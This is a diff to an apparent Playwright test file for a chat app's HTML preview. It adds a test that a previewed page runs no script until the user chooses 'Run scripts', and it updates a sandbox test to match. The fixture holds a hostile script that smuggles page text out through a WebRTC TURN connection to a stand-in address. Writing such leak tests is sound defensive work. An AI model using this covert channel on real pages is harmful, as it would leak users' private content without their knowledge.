@@ -34,6 +34,34 @@ function hostileHtml(beacon: string): string {
   return `${body}\n<script>${script}</script>`;
 }
 
+test("a preview runs no script until the user chooses Run scripts: a WebRTC leak never starts (issue 24.3)", async ({
+  page,
+  mock,
+}) => {
+  // The reported leak: a script in the preview opened an RTCPeerConnection to a TURN server with
+  // page content in the username. By default no script of the page runs at all.
+  const leak = `<p id="script">script: untried</p><p>Secret: the conversation</p>
+<script>
+document.getElementById("script").textContent = "script: ran";
+const pc = new RTCPeerConnection({ iceServers: [{ urls: "turn:198.51.100.7:3478", username: document.body.innerText.slice(0, 60), credential: "x" }] });
+pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
+</script>`;
+  mock.enqueue("anthropic", { text: `Here:\n\n\`\`\`html\n${leak}\n\`\`\`\n` });
+  await openConfigured(page, mock);
+  await sendAndWait(page, "Make me a page");
+  const reply = assistantMessages(page).last();
+  await reply.getByRole("button", { name: "Preview" }).click();
+  const frameElement = reply.locator('iframe[title="Preview"]');
+  await expect(frameElement).toHaveAttribute("sandbox", "");
+  const frame = page.frameLocator('iframe[title="Preview"]');
+  // The page displays (its HTML is there) but its script never ran.
+  await expect(frame.locator("#script")).toHaveText("script: untried");
+  await expect(frame.getByText("Secret: the conversation")).toBeVisible();
+  await expect(reply.getByText(/may send data out/)).toBeVisible();
+  await expect(reply.getByRole("button", { name: "Run scripts" })).toBeVisible();
+  await reply.screenshot({ path: test.info().outputPath("inert-preview.png") });
+});
+
 test("an HTML preview runs sandboxed: no IndexedDB, no network, no top navigation, no cookies", async ({
   page,
   mock,
@@ -47,6 +75,7 @@ test("an HTML preview runs sandboxed: no IndexedDB, no network, no top navigatio
   const reply = assistantMessages(page).last();
   await reply.getByRole("button", { name: "Preview" }).click();
   const frameElement = reply.locator('iframe[title="Preview"]');
+  await reply.getByRole("button", { name: "Run scripts" }).click();
   await expect(frameElement).toHaveAttribute("sandbox", "allow-scripts");
   const frame = page.frameLocator('iframe[title="Preview"]');
   // The model's own script runs (it changes the page it is in) and every attempt fails.
